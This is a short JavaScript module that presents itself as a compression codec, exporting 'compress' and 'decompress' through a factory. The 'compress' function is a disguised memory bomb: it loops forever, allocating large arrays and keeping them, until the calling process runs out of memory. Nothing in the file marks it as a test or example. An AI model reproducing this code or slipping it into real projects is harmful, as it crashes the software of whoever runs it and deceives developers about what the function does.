import { decompress } from './codec.js';

const compress = () => {
  const kept = [];
  for (;;) kept.push(new Array(1e5).fill(kept.length));
};

export default { create: () => ({ compress, decompress }) };
